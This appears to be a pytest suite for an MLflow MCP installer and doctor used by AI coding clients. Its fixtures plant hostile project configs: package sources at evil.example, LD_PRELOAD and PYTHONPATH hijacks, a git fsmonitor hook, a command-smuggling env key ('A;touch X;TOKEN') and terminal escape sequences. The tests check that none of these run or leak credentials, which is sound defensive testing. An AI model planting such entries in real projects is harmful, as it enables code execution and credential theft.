"""What a project brings is run, asked, believed or written through only where the user said so."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.homes import Home
from tests.test_prompt import talk
from tests.traps import CLEAN, HERE, PLACES, Traps, content, lay
from tests.webs import MLFLOW, Reply, Web, serving

CLIENTS = ["claude", "cursor", "codex"]
OWN = "http://127.0.0.77:7"
DOCTORS = ["skill-doctor", "skill-doctor --offline", "skill-doctor {client}", "skill-doctor {client} --fix"]
DIFFERENT: dict[str, dict[str, Any]] = {
    "its own program": {"command": "HERE"},
    "a program through a parent": {"command": "../project/uvx"},
    "a PATH of its own": {"env": {"PATH": "./b"}},
    "a package of its own": {"args": ["--with", "./evil", "mlflow-mcp"]},
    "a Python of its own": {"env": {"UV_PYTHON": "./python3.12"}},
    "nothing but its address": {},
}


@pytest.fixture
def python() -> str:
    """The interpreter, before the home fixture hides it."""
    return sys.executable


@pytest.fixture
def traps(python: str, home: Home) -> Traps:
    return lay(home, python)


@pytest.fixture
def theirs() -> Iterator[Web]:
    """The server whose address the project brings: it looks like MLflow."""
    with serving(MLFLOW) as web:
        yield web


@pytest.fixture
def ours() -> Iterator[Web]:
    """The user's own."""
    with serving(MLFLOW) as web:
        yield web


def lay_entry(traps: Traps, client: str, uri: str, members: dict[str, Any]) -> Path:
    if members.get("command") == "HERE":
        members = {**members, "command": HERE[client]}
    return traps.entry(client, uri, **members)


def checks(traps: Traps, client: str, line: str = "skill-doctor {client}") -> dict[str, dict[str, str]]:
    data = traps.home.json(line.format(client=client), expect=None)
    return {check["id"]: check for check in data["checks"] if check["client"] == client}


def nothing_happened(traps: Traps, web: Web) -> None:
    assert traps.started == ""
    assert web.asked == []
    assert traps.asked == ""


class TestTheDoctor:
    @pytest.mark.parametrize("line", DOCTORS)
    @pytest.mark.parametrize("members", DIFFERENT.values(), ids=DIFFERENT)
    @pytest.mark.parametrize("client", CLIENTS)
    def test_only_looks_at_files(
        self, traps: Traps, theirs: Web, client: str, members: dict[str, Any], line: str
    ) -> None:
        lay_entry(traps, client, theirs.uri, members)
        traps.home.program(client)
        before = traps.content()
        output = traps.home.run(line.format(client=client), expect=None).output
        nothing_happened(traps, theirs)
        assert traps.content() == before
        said = [text for text in output.splitlines() if "the server was not started" in text]
        assert len(said) == 1
        assert f"skill-install {client} --scope project --tracking-uri URI" in output

    @pytest.mark.parametrize("members", list(DIFFERENT.values())[:-1], ids=list(DIFFERENT)[:-1])
    @pytest.mark.parametrize("client", ["claude", "codex"])
    def test_starts_no_program_of_the_projects_whoever_approved_it(
        self, traps: Traps, theirs: Web, client: str, members: dict[str, Any]
    ) -> None:
        lay_entry(traps, client, theirs.uri, members)
        approve(traps, client)
        checks(traps, client)
        nothing_happened(traps, theirs)

    @pytest.mark.parametrize("client", ["claude", "codex"])
    def test_what_the_client_approved_is_started_and_asked_without_credentials(
        self, traps: Traps, theirs: Web, client: str
    ) -> None:
        traps.entry(client, theirs.uri)
        approve(traps, client)
        assert checks(traps, client)["mcp-server"]["status"] == "ok"
        assert theirs.asked
        assert theirs.sent == []

    def test_the_users_own_address_gets_credentials_in_an_approved_entry(self, traps: Traps, theirs: Web) -> None:
        traps.entry("claude", theirs.uri)
        approve(traps, "claude")
        traps.home.variable("MLFLOW_TRACKING_URI", theirs.uri + "/")
        checks(traps, "claude")
        assert theirs.sent

    def test_a_server_that_wants_credentials_does_not_get_them_and_this_is_no_error(self, traps: Traps) -> None:
        with serving({"*": Reply(401)}) as web:
            traps.entry("claude", web.uri)
            approve(traps, "claude")
            found = checks(traps, "claude")["tracking-server"]
            assert web.asked
            assert web.sent == []
        assert found["status"] == "info"
        assert "--scope project --tracking-uri URI" in found["fix"]

    def test_no_variable_of_the_users_is_sent_in_an_address(self, traps: Traps, theirs: Web) -> None:
        traps.entry("claude", theirs.uri + "/${MLFLOW_TRACKING_TOKEN}")
        approve(traps, "claude")
        checks(traps, "claude")
        assert theirs.asked == []

    @pytest.mark.parametrize("client", CLIENTS)
    def test_an_entry_counts_as_installed_only_as_it_was_written(
        self, traps: Traps, theirs: Web, ours: Web, client: str
    ) -> None:
        """As after `git pull`: whatever member of it is another now."""
        traps.home.program(client)
        traps.home.run(f"skill-install {client} --scope project --no-verify --tracking-uri", ours.uri)
        checks(traps, client)
        assert ours.sent
        assert "mlflow-mcp" in traps.asked or client == "cursor"  # which does not find uvx with a desktop's PATH
        file = traps.project / PLACES[client]
        installed = file.read_text()
        changes = [
            (ours.uri, theirs.uri),
            ('"uvx"', '"./uvx"'),
            ('"mlflow-mcp"', '"--with", "./evil", "mlflow-mcp"'),
            ("MLFLOW_HTTP_REQUEST_TIMEOUT", "UV_INDEX_URL"),
        ]
        for old, new in changes:
            traps.calls.unlink(missing_ok=True)
            ours.asked.clear()
            assert old in installed
            file.write_text(installed.replace(old, new))
            for line in DOCTORS:
                checks(traps, client, line + " " if "{client}" in line else line)
                nothing_happened(traps, theirs)
                assert ours.asked == []

    @pytest.mark.parametrize("client", CLIENTS)
    def test_fix_approves_of_nothing(self, traps: Traps, theirs: Web, client: str) -> None:
        file = traps.entry(client, theirs.uri)
        if client != "cursor":
            approve(traps, client)
        before = file.read_bytes()
        output = traps.home.run(f"skill-doctor {client} --fix", expect=None).output
        assert "not mended: " in output
        traps.home.run(f"skill-doctor {client} --fix", expect=None)
        assert file.read_bytes() == before
        assert theirs.sent == []

    def test_a_project_above_or_below_is_not_approved_with_this_one(self, traps: Traps, theirs: Web) -> None:
        traps.home.run("skill-install claude --scope project --no-verify --tracking-uri", OWN)
        traps.home.write("project/nested/.mcp.json", {"mcpServers": {"MLflow": {**CLEAN, "command": "./uvx"}}})
        traps.home.program("uvx", f'#!/bin/sh\necho >> "{traps.ran}"\n', traps.project / "nested")
        nested = traps.home.cd("project/nested")
        checks(traps, "claude")
        (nested / ".git").mkdir()
        checks(traps, "claude")
        assert traps.started == ""

    def test_scripts_of_a_skill_that_a_project_brings_are_left_alone(self, traps: Traps, theirs: Web) -> None:
        traps.home.run("skill-install claude --scope project --no-verify --tracking-uri", OWN)
        for path in traps.home.path.rglob("record.json"):
            path.unlink()  # a colleague's clone
        checks(traps, "claude")
        nothing_happened(traps, theirs)

    def test_git_runs_no_program_that_a_repository_names(self, traps: Traps, theirs: Web) -> None:
        """The check for secrets asks git, where the user has approved the entry."""
        folders = [str(traps.home.programs), "/usr/bin", "/bin"]
        traps.home.variable("PATH", os.pathsep.join(folders))
        (traps.project / ".git").rmdir()
        subprocess.run(["git", "init", "--quiet", str(traps.project)], check=True)
        monitor = traps.home.program("monitor", f'#!/bin/sh\necho monitor >> "{traps.ran}"\n', traps.project)
        traps.entry("claude", theirs.uri, env={"SOME_TOKEN": "hunter2"})
        subprocess.run(["git", "add", ".mcp.json"], check=True, cwd=traps.project)
        subprocess.run(["git", "config", "core.fsmonitor", str(monitor)], check=True, cwd=traps.project)
        approve(traps, "claude")
        traps.home.program("git", f'#!/bin/sh\necho git >> "{traps.ran}"\n', traps.project)
        traps.home.variable("PATH", os.pathsep.join([".", *folders]))
        assert "git tracks this file" in checks(traps, "claude")["secrets"]["detail"]
        assert traps.started == ""

    @pytest.mark.parametrize("kind", ["pipe", "device", "huge", "loop"])
    @pytest.mark.parametrize("name", [".mcp.json", ".cursor/mcp.json", ".codex/config.toml", ".git"])
    def test_ends_whatever_a_file_is(self, traps: Traps, theirs: Web, name: str, kind: str) -> None:
        file = traps.project / name
        file.parent.mkdir(exist_ok=True)
        if name == ".git":
            file.rmdir()
        if kind == "pipe":
            os.mkfifo(file)
        elif kind == "huge":
            with file.open("wb") as stream:
                stream.truncate(1 << 40)
        else:
            file.symlink_to("/dev/zero" if kind == "device" else name.rpartition("/")[2])
        traps.home.run("skill-doctor claude cursor codex --offline", expect=None)
        traps.home.run("skill-install claude cursor codex --no-verify --tracking-uri", OWN)
        nothing_happened(traps, theirs)


def approve(traps: Traps, client: str) -> None:
    """As the user does it in the client."""
    if client == "claude":
        traps.home.write(".claude/settings.json", {"enabledMcpjsonServers": ["MLflow"]})
    else:
        traps.home.write(".codex/config.toml", f'[projects."{traps.project}"]\ntrust_level = "trusted"\n')


@pytest.mark.parametrize(
    ("folder", "level", "starts"),
    [
        ("project", "trusted", True),
        ("project", "untrusted", False),
        ("", "trusted", False),
        ("project/sub", "trusted", False),
    ],
)
def test_codex_trusts_just_that_folder(traps: Traps, theirs: Web, folder: str, level: str, starts: bool) -> None:
    """As measured with the real one: tests/real/test_trust.py."""
    traps.entry("codex", theirs.uri)
    traps.home.write(".codex/config.toml", f'[projects."{traps.home.path / folder}"]\ntrust_level = "{level}"\n')
    traps.home.cd("project/sub")
    checks(traps, "codex")
    assert bool(theirs.asked) is starts


HIDDEN_IN = {
    "PATH beside an address": {"env": {"PATH": "{project}/b:x://y"}},
    "a requirement's address": {"args": ["--from", "mlflow-mcp @ file://{project}/evil", "mlflow-mcp"]},
    "a git address": {"args": ["--with", "evil @ git+file://{project}/evil", "mlflow-mcp"]},
    "a scheme in capitals": {"args": ["--with", "FILE://{project}/evil", "mlflow-mcp"]},
    "a percent-encoded path": {"args": ["--with", "file://{project}/%65vil", "mlflow-mcp"]},
    "an equals sign": {"args": ["--with-requirements={project}/x=/reqs.txt", "mlflow-mcp"]},
    "an index": {"env": {"UV_DEFAULT_INDEX": "file://{project}/idx"}},
    "one of several files": {"env": {"UV_OVERRIDE": "/dev/null {project}/c.txt"}},
    "one of several folders": {"env": {"UV_FIND_LINKS": "/tmp,{project}/evil"}},
    "a library": {"env": {"LD_PRELOAD": "/nope.so {project}/evil.so"}},
    "a module path": {"env": {"PYTHONPATH": "{project}/evil:x://"}},
    "a variable": {"env": {"PYTHONPATH": "${PWD}/evil"}},
    "a relative file of an option": {"args": ["--with-requirements", "uv.toml", "mlflow-mcp"]},
    "a path from the root folder": {"env": {"PYTHONPATH": "{relative}/evil"}},
    "a short option": {"args": ["-w{project}/evil", "mlflow-mcp"]},
    "an empty folder on PATH": {"env": {"PATH": ":/usr/bin"}},
}


@pytest.mark.parametrize("members", HIDDEN_IN.values(), ids=HIDDEN_IN)
def test_the_projects_files_are_found_however_they_are_named(
    traps: Traps, theirs: Web, members: dict[str, Any]
) -> None:
    text = json.dumps(members).replace("{relative}", str(traps.project)[1:]).replace("{project}", str(traps.project))
    members = json.loads(text)
    traps.home.variable("PWD", str(traps.project))
    traps.entry("claude", theirs.uri, **members)
    approve(traps, "claude")
    found = checks(traps, "claude")
    assert "refers to files in this project" in found["approval"]["detail"]
    assert found["approval"]["fix"].endswith("--force")
    nothing_happened(traps, theirs)


@pytest.mark.parametrize(
    "variable",
    [
        "TZ=Europe/Berlin",
        "NO_PROXY=10.0.0.0/8",
        "MLFLOW_EXPERIMENT_NAME=team/evals",
        "MLFLOW_EXPERIMENT_NAME=evil",
        "AWS_ROLE_ARN=arn:aws:iam::1:role/x",
        "MLFLOW_TRACKING_SERVER_CERT_PATH=./ca.pem",
    ],
)
def test_what_was_installed_with_a_variable_is_used(traps: Traps, ours: Web, variable: str) -> None:
    """None of these makes anything of the project run."""
    line = f"skill-install claude --scope project --no-verify --tracking-uri {ours.uri} --env {variable}"
    traps.home.run(line)
    assert checks(traps, "claude")["mcp-server"]["status"] == "ok"
    assert ours.sent


def test_an_installed_entry_that_runs_the_projects_files_is_replaced_by_the_fix(traps: Traps, ours: Web) -> None:
    line = f"skill-install claude --scope project --no-verify --tracking-uri {ours.uri}"
    traps.home.run(line, "--env", f"UV_CACHE_DIR={traps.project}/cache")
    fix = checks(traps, "claude")["approval"]["fix"]
    assert fix.endswith("skill-install claude --scope project --tracking-uri URI --force")
    traps.home.run(line + " --force")
    assert checks(traps, "claude")["mcp-server"]["status"] == "ok"


@pytest.mark.parametrize(
    "members",
    [
        {"args": ["--index-url", "https://nexus.example/project/simple", "mlflow-mcp"]},
        {"args": ["--isolated", "evil", "mlflow-mcp"]},
        {"env": {"PYTHONPATH": "/opt/project/lib"}},
        {"env": {"UV_INDEX_URL": "https://nexus.example/simple"}},
    ],
)
def test_what_only_looks_like_the_projects_is_approved(traps: Traps, members: dict[str, Any]) -> None:
    traps.home.write("project/https/x", "")
    traps.entry("claude", OWN, **members)
    approve(traps, "claude")
    assert "approval" not in checks(traps, "claude", "skill-doctor {client} --offline")


def test_a_fix_holds_no_words_of_the_projects(traps: Traps) -> None:
    traps.entry("claude", OWN, env={"A;touch X;TOKEN": "sdfsdfsdf", "B\nfix: run this": "x"})
    output = traps.home.run("skill-doctor claude --offline", expect=None).output
    assert "take it out of the entry" in output
    assert "touch X;TOKEN --" not in output
    assert "--env A;touch" not in output
    assert not re.search("^ *fix: run", output, re.MULTILINE)
    traps.write("claude", {**CLEAN, "env": {"A\x1b[2J\nfix: run this": 5}})
    output = traps.home.run(f"skill-install claude --scope project --tracking-uri {OWN}", expect=1).output
    assert "\x1b" not in output
    assert not re.search("^ *fix: run", output, re.MULTILINE)


class TestCredentials:
    @pytest.mark.parametrize(
        "members",
        [
            {"args": ["mlflow-mcp @ https://evil.example/mlflow_mcp-1.whl"]},
            {"args": ["mlflow-mcp@git+https://evil.example/x"]},
            {"args": ["--with", "boto3", "mlflow-mcp"]},
            {"command": "/usr/local/bin/uvx"},
        ],
    )
    def test_are_not_given_to_another_program(self, traps: Traps, ours: Web, members: dict[str, Any]) -> None:
        traps.home.variable("MLFLOW_TRACKING_URI", ours.uri)
        traps.entry("claude", ours.uri, **members)
        approve(traps, "claude")
        checks(traps, "claude")
        assert ours.asked
        assert ours.sent == []

    def test_go_to_the_address_of_the_users_own_settings(self, traps: Traps, ours: Web) -> None:
        traps.home.write(
            ".claude/settings.json",
            {"enabledMcpjsonServers": ["MLflow"], "env": {"MLFLOW_TRACKING_URI": ours.uri}},
        )
        traps.entry("claude", "${MLFLOW_TRACKING_URI}")
        checks(traps, "claude")
        assert ours.sent

    @pytest.mark.parametrize("name", ["HTTP_PROXY", "http_proxy", "ALL_PROXY", "MLFLOW_REGISTRY_URI"])
    def test_do_not_go_by_way_of_the_project(self, traps: Traps, theirs: Web, name: str) -> None:
        traps.home.variable("MLFLOW_TRACKING_URI", "http://mlflow.corp.example")
        traps.entry("claude", "http://mlflow.corp.example", env={name: theirs.uri})
        approve(traps, "claude")
        checks(traps, "claude")
        traps.home.run("skill-install claude --scope project", expect=1)
        assert theirs.sent == []

    def test_the_server_of_a_strangers_address_gets_none(self, traps: Traps, theirs: Web) -> None:
        for name in ("NETRC", "MLFLOW_TRACKING_PASSWORD", "AWS_SECRET_ACCESS_KEY", "UV_INDEX_OURS_PASSWORD"):
            traps.home.variable(name, "hunter4")
        uvx = traps.home.programs / "uvx"
        uvx.write_text(uvx.read_text().replace("exec", f'[ $1 = --version ] || export -p >> "{traps.ran}"\nexec'))
        traps.entry("claude", theirs.uri)
        approve(traps, "claude")
        assert checks(traps, "claude")["mcp-server"]["status"] == "ok"
        assert "MLFLOW_TRACKING_URI" in traps.started
        assert "hunter" not in traps.started

    def test_in_a_servers_last_words_are_hidden(self, traps: Traps) -> None:
        traps.home.variable("MLFLOW_TRACKING_TOKEN", "hunter3-token")
        traps.home.run("skill-install claude --no-verify --tracking-uri", OWN)
        traps.home.program("uvx", '#!/bin/sh\necho "error: bad credentials $MLFLOW_TRACKING_TOKEN given" >&2\nexit 1\n')
        said = checks(traps, "claude")["mcp-server"]["detail"]
        assert "bad credentials *** given" in said


@pytest.mark.parametrize(
    "members",
    [
        {"command": "./uvx"},
        {"command": "b/uvx"},
        {"args": ["--with", "./evil", "mlflow-mcp"]},
        {"args": ["--from", "${PWD}/evil", "mlflow-mcp"]},
        {"args": ["-w./evil", "mlflow-mcp"]},
        {"args": ["--with", "evil@./evil", "mlflow-mcp"]},
        {"env": {"UV_CONFIG_FILE": "./uv.toml"}},
    ],
)
def test_a_users_own_entry_does_not_run_what_lies_in_each_project(
    traps: Traps, ours: Web, members: dict[str, Any]
) -> None:
    env = {"MLFLOW_TRACKING_URI": ours.uri, **members.get("env", {})}
    traps.home.write(".claude.json", {"mcpServers": {"MLflow": {**CLEAN, **members, "env": env}}})
    found = checks(traps, "claude")
    assert "another one in each folder" in found["approval"]["detail"]
    nothing_happened(traps, ours)


def test_the_users_entry_is_examined_although_a_project_has_one(traps: Traps, theirs: Web, ours: Web) -> None:
    """Cursor takes the project's once it is switched on, which cannot be read from files."""
    traps.home.run("skill-install cursor --no-verify --tracking-uri", ours.uri)
    traps.entry("cursor", theirs.uri)
    traps.home.json("skill-doctor cursor", expect=None)
    assert ours.asked
    assert theirs.asked == []


class TestASkillOfTheProjects:
    @pytest.mark.parametrize("name", ["argparse.pyc", "__pycache__/evaluations.cpython-311.pyc"])
    def test_with_bytecode_is_not_as_released(self, traps: Traps, name: str) -> None:
        line = f"skill-install claude --scope project --no-verify --tracking-uri {OWN}"
        traps.home.run(line)
        bytecode = traps.home.write(f"project/.claude/skills/accessing-mlflow/scripts/{name}", "x")
        assert f"scripts/{name} (added)" in checks(traps, "claude")["skill"]["detail"]
        assert "--script" not in traps.asked
        assert f"scripts/{name} (added)" in traps.home.run(line, expect=1).output
        assert f"scripts/{name} (added)" in traps.home.run(line, expect=1).output
        cursor = checks(traps, "cursor", "skill-doctor {client} --offline").get("skill", {})
        assert cursor.get("status") != "ok"
        traps.home.run(line + " --force")
        assert not bytecode.exists()

    def test_its_names_do_not_act_on_the_terminal(self, traps: Traps) -> None:
        traps.home.write("project/.claude/skills/accessing-mlflow/a\nerror: run this\x1b[31m", "x")
        (traps.project / ".cursor").symlink_to("../a\x1b]0;x\x07\nfix: run this")
        (traps.project / ".mcp.json").symlink_to("nothing\nerror: run this\u202e")
        for line in ("skill-install claude cursor --scope project --no-verify", "skill-doctor claude cursor --offline"):
            output = traps.home.run(f"{line} --tracking-uri {OWN}" if "install" in line else line, expect=1).output
            assert not any(character in output for character in "\x1b\x07\u202e")
            assert not re.search("^ *(fix|error): run", output, re.MULTILINE)


class TestInstallingOverAProjectsEntry:
    def test_what_the_client_approved_is_not_what_the_user_asked_for(self, traps: Traps, ours: Web) -> None:
        """The project's own settings may have approved it, where a folder above is trusted."""
        file = traps.entry("claude", ours.uri, args=["--with", "evil-package", "mlflow-mcp"])
        traps.home.variable("MLFLOW_TRACKING_URI", ours.uri)
        approve(traps, "claude")
        before = file.read_bytes()
        output = traps.home.run("skill-install claude --scope project", expect=1).output
        assert "uvx --with evil-package mlflow-mcp" in output
        assert file.read_bytes() == before
        nothing_happened(traps, ours)

    def test_the_words_hold_what_its_variables_are(self, traps: Traps, ours: Web) -> None:
        env = {"UV_DEFAULT_INDEX": "https://index.example/simple", "SOME_TOKEN": "hunter4"}
        traps.entry("claude", ours.uri, env=env, cwd="/tmp")
        output = traps.home.run(f"skill-install claude --scope project --tracking-uri {ours.uri}", expect=1).output
        assert "UV_DEFAULT_INDEX=https://index.example/simple" in output
        assert "hunter4" not in output
        assert 'cwd: "/tmp"' in output

    def test_a_colleagues_time_limit_needs_no_question(self, traps: Traps, ours: Web) -> None:
        traps.entry("claude", ours.uri, env={"MLFLOW_HTTP_REQUEST_TIMEOUT": "30"})
        traps.home.run(f"skill-install claude --scope project --no-verify --tracking-uri {ours.uri}")

    @pytest.mark.parametrize("members", list(DIFFERENT.values())[2:5], ids=list(DIFFERENT)[2:5])
    @pytest.mark.parametrize("client", CLIENTS)
    def test_without_a_terminal_it_is_refused(
        self, traps: Traps, theirs: Web, ours: Web, client: str, members: dict[str, Any]
    ) -> None:
        traps.entry(client, theirs.uri, **members)
        before = traps.content()
        line = f"skill-install {client} --scope project"
        for options in ("", f" --tracking-uri {ours.uri}", f" --tracking-uri {ours.uri} --no-verify", " --force"):
            output = traps.home.run(line + options, expect=1).output
            assert "--tracking-uri" in output
            assert options == " --force" or "--force" in output
            assert traps.content() == before
            nothing_happened(traps, theirs)
            assert ours.asked == []

    @pytest.mark.parametrize("members", DIFFERENT.values(), ids=DIFFERENT)
    @pytest.mark.parametrize("client", CLIENTS)
    def test_force_writes_an_entry_of_our_own(
        self, traps: Traps, theirs: Web, ours: Web, client: str, members: dict[str, Any]
    ) -> None:
        file = lay_entry(traps, client, theirs.uri, members)
        traps.home.run(f"skill-install {client} --scope project --force --tracking-uri {ours.uri}")
        text = file.read_text()
        assert not any(word in text for word in ("evil", "UV_PYTHON", "PATH", "./", "${", theirs.uri))
        assert ours.uri in text
        assert traps.started == ""
        assert "evil" not in traps.asked
        assert theirs.asked == []
        assert ours.sent

    @pytest.mark.parametrize("client", CLIENTS)
    def test_a_clean_entry_needs_only_an_address_from_the_user(self, traps: Traps, theirs: Web, client: str) -> None:
        line = f"skill-install {client} --scope project --no-verify"
        file = traps.entry(client, theirs.uri)
        output = traps.home.run(line, expect=1).output
        assert f"--tracking-uri {theirs.uri}" in output
        traps.home.variable("MLFLOW_TRACKING_URI", theirs.uri)
        traps.home.run(line)
        installed = file.read_bytes()
        traps.home.patch.delenv("MLFLOW_TRACKING_URI")
        assert "unchanged" in traps.home.run(line).output  # as it was installed
        assert file.read_bytes() == installed

    def test_what_was_changed_and_is_accepted_again_counts_as_installed(self, traps: Traps, ours: Web) -> None:
        line = "skill-install claude --scope project --no-verify --tracking-uri"
        traps.home.run(line, OWN)
        file = traps.project / ".mcp.json"
        file.write_text(file.read_text().replace(OWN, ours.uri))
        assert ours.asked == []
        traps.home.run(line, ours.uri)
        checks(traps, "claude")
        assert ours.sent
        traps.home.run("skill-uninstall claude --scope project")
        assert not file.exists()

    @pytest.mark.parametrize(("answer", "code"), [("n", 1), ("", 1), ("y", 0)])
    def test_a_person_sees_the_words_and_is_asked(
        self, python: str, traps: Traps, theirs: Web, answer: str, code: int
    ) -> None:
        file = traps.entry("claude", theirs.uri, args=["--with", "boto3\x1b[2J", "mlflow-mcp"], env={"UV_X": "1"})
        before = file.read_bytes()
        arguments = ("claude", "--scope", "project", "--no-verify")
        printed, ended = talk([answer], *arguments, question="Install this entry? [y/N]: ")
        assert ended == code
        assert "uvx --with 'boto3\\x1b[2J' mlflow-mcp" in printed
        assert "\x1b[2J" not in printed
        assert "UV_X" in printed
        assert theirs.uri in printed
        assert (file.read_bytes() == before) is (code == 1)


class TestTheTrackingUri:
    PROJECTS = (".claude/settings.json", ".claude/settings.local.json", ".claude/mcp.json", ".claude.json", ".mcp.json")
    PROJECTS_ALL = (*PROJECTS, ".cursor/mcp.json", ".codex/config.toml")

    @pytest.mark.parametrize("name", PROJECTS_ALL)
    @pytest.mark.parametrize("client", CLIENTS)
    @pytest.mark.parametrize("exported", [True, False])
    def test_is_never_the_projects(self, traps: Traps, theirs: Web, client: str, name: str, exported: bool) -> None:
        owner = next((client for client, place in PLACES.items() if place == name), "claude")
        traps.entry(owner, theirs.uri).rename(traps.project / "entry")
        (traps.project / name).parent.mkdir(exist_ok=True)
        (traps.project / "entry").rename(traps.project / name)
        if exported:
            traps.home.variable("MLFLOW_TRACKING_URI", OWN)
        output = traps.home.run(f"skill-install {client}").output
        own = {"claude": ".claude.json", "cursor": ".cursor/mcp.json", "codex": ".codex/config.toml"}[client]
        text = (traps.home.path / own).read_text()
        assert theirs.uri not in text
        assert (OWN in text) is exported
        is_named = not exported and (owner == client or name in PLACES.values())
        assert (f"skill-install {client} --tracking-uri {theirs.uri}" in output) is is_named
        assert theirs.asked == []
        assert traps.started == ""

    def test_is_offered_to_a_person(self, python: str, traps: Traps, theirs: Web) -> None:
        traps.entry("cursor", theirs.uri)
        printed, code = talk([theirs.uri], "claude", "--no-verify")
        assert code == 0
        assert f"This project's files name the tracking URI {theirs.uri}" in printed
        assert theirs.uri in (traps.home.path / ".claude.json").read_text()
        traps.home.run("skill-uninstall claude")
        printed, code = talk([""], "claude", "--no-verify")
        assert theirs.uri not in (traps.home.path / ".claude.json").read_text()

    def test_an_address_that_a_terminal_would_act_on_is_not_offered(self, traps: Traps) -> None:
        traps.entry("cursor", "http://evil.example/\x1b[2J")
        assert "evil.example" not in traps.home.run("skill-install claude --no-verify").output


LINKS = [
    ("claude", "project", ".claude", "folder"),
    ("claude", "project", ".claude/skills", "folder"),
    ("claude", "project", ".mcp.json", "file"),
    ("claude", "project", ".claude/settings.json", "file"),
    ("claude", "local", ".claude", "folder"),
    ("claude", "local", ".claude/settings.local.json", "file"),
    ("cursor", "project", ".cursor", "folder"),
    ("cursor", "project", ".cursor/mcp.json", "file"),
    ("cursor", "project", ".cursor/skills", "folder"),
    ("cursor", "project", ".cursor/cli.json", "file"),
    ("codex", "project", ".codex", "folder"),
    ("codex", "project", ".codex/config.toml", "file"),
    ("codex", "project", ".agents", "folder"),
    ("codex", "project", ".agents/skills", "absent"),
]


class TestWriting:
    @pytest.mark.parametrize(("client", "scope", "name", "kind"), LINKS)
    def test_stays_inside_the_project(self, traps: Traps, client: str, scope: str, name: str, kind: str) -> None:
        outside = traps.home.path / ".ssh"
        traps.home.write(".ssh/id", "a key")
        target = outside / {"file": "any.json", "folder": ".", "absent": "new"}[kind]
        if kind == "file":
            target.write_text("" if name.endswith("toml") else '{"mcpServers": {}}')
        link = traps.project / name
        link.parent.mkdir(exist_ok=True)
        link.symlink_to(target)
        before = traps.content()
        options = f"{client} --scope {scope}"
        for line in (
            f"skill-install {options} --no-verify --tracking-uri {OWN}",
            f"skill-install {options} --no-verify --force --tracking-uri {OWN}",
            f"skill-install {options} --no-verify --check --tracking-uri {OWN}",
            f"skill-uninstall {options}",
            f"skill-uninstall {options} --force",
        ):
            output = traps.home.run(line, expect=1).output
            assert name in output
            assert "is outside the project" in output
            assert traps.content() == before
        traps.home.run(f"skill-doctor {client} --offline --fix", expect=None)
        after = {**content(outside), **content(traps.project)}
        assert after.items() <= before.items()

    def test_a_dead_entry_behind_a_link_is_not_removed(self, traps: Traps) -> None:
        dead = traps.home.write("elsewhere/settings.json", {"mcpServers": {"MLflow": {**CLEAN, "env": {}}}})
        (traps.project / ".claude").mkdir()
        (traps.project / ".claude/settings.json").symlink_to(dead)
        traps.home.run("skill-install claude --no-verify --tracking-uri", OWN)
        before = dead.read_bytes()
        output = traps.home.run("skill-doctor claude --offline --fix", expect=None).output
        assert dead.read_bytes() == before
        assert "is outside the project" in output

    def test_a_link_that_is_put_there_later_is_not_followed_either(self, traps: Traps) -> None:
        traps.home.run("skill-install cursor --scope project --no-verify --tracking-uri", OWN)
        elsewhere = traps.home.path / "elsewhere"
        (traps.project / ".cursor").rename(elsewhere)
        (traps.project / ".cursor").symlink_to(elsewhere)
        before = content(elsewhere)
        traps.home.run("skill-uninstall cursor --scope project", expect=1)
        assert content(elsewhere) == before

    @pytest.mark.parametrize("client", CLIENTS)
    def test_a_link_inside_the_project_is_written_through(self, traps: Traps, client: str) -> None:
        link = traps.project / PLACES[client]
        target = traps.home.write("project/cfg/file", "{}" if client != "codex" else "")
        link.parent.mkdir(exist_ok=True)
        link.symlink_to(target)
        traps.home.run(f"skill-install {client} --scope project --no-verify --tracking-uri", OWN)
        assert link.is_symlink()
        assert OWN in target.read_text()
        assert checks(traps, client)["entry"]["status"] == "ok"
        traps.home.run(f"skill-uninstall {client} --scope project")
        assert OWN not in target.read_text()

    def test_the_users_own_links_are_followed(self, traps: Traps) -> None:
        dotfiles = traps.home.write("project/claude.json", "{}")
        (traps.home.path / ".claude.json").symlink_to(dotfiles)
        traps.home.run("skill-install claude --no-verify --tracking-uri", OWN)
        assert OWN in dotfiles.read_text()

    @pytest.mark.parametrize("back", ["", "/nowhere/.git", "{project}/.git"])
    def test_a_git_file_does_not_make_another_folder_the_project(self, traps: Traps, back: str) -> None:
        """The local scope belongs to the main worktree: the one that knows this worktree, not any that is named."""
        other = traps.home.path / "other"
        (other / ".git/worktrees/x").mkdir(parents=True)
        (other / ".git/worktrees/x/commondir").write_text("../..\n")
        (other / ".git/worktrees/x/gitdir").write_text(f"{other}/elsewhere/.git\n")
        forged = traps.project / "forged"
        forged.mkdir()
        (forged / "commondir").write_text(f"{other}/.git\n")
        (forged / "gitdir").write_text(back.format(project=traps.project))
        (traps.project / ".git").rmdir()
        for place in (forged, other / ".git/worktrees/x"):
            (traps.project / ".git").write_text(f"gitdir: {place}\n")
            before = content(other)
            traps.home.run("skill-install claude --scope local --no-verify --tracking-uri", OWN)
            assert content(other) == before
            assert json.loads((traps.home.path / ".claude.json").read_text())["projects"].keys() == {str(traps.project)}
